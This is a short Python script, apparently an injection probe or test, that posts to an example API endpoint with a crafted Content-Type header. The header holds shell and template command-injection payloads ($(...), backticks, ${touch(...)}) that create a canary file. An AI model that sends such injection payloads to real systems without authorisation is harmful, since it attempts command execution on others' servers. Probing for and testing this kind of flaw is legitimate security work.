import requests

url = "https://api.example.com/run"
headers = {"Content-Type": "text/plain; charset=\"'$(touch snipgen-canary)`touch snipgen-canary`\"; x={${touch('snipgen-canary')}}"}
data = "x"

response = requests.post(url, headers=headers, data=data)
print(response.text)
